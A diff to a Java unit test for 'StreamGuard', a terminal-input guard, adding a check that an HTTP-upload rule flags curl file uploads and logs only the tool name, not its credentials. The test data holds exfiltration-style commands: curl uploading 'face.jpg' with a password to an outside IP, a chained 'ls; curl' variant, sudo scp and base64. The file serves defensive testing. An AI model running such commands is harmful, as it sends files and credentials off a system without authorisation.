@@ -161,6 +161,16 @@ class StreamGuardTest {
   }
 
   @Test
+  void theAuditedMatchNamesTheToolButNotItsArguments() {
+    GuardVerdict v = type(guard(true), "curl -u vendor:Sup3rSecret -T face.jpg http://203.0.113.9/\r");
+    assertThat(v.ruleId()).isEqualTo("default.input.http-upload");
+    assertThat(v.match()).isEqualTo("curl");
+    GuardVerdict w = type(guard(true), "ls; curl -uvendor:Sup3rSecret -T face.jpg http://x/\r");
+    assertThat(w.match()).isEqualTo("curl");
+    assertThat(type(guard(true), "sudo scp a b:\r").match()).isEqualTo("sudo scp");
+  }
+
+  @Test
   void withoutATerminalBlockBecomesTerminate() {
     assertThat(type(guard(false), "base64 face.jpg\n").action()).isEqualTo(GuardAction.TERMINATE);
   }
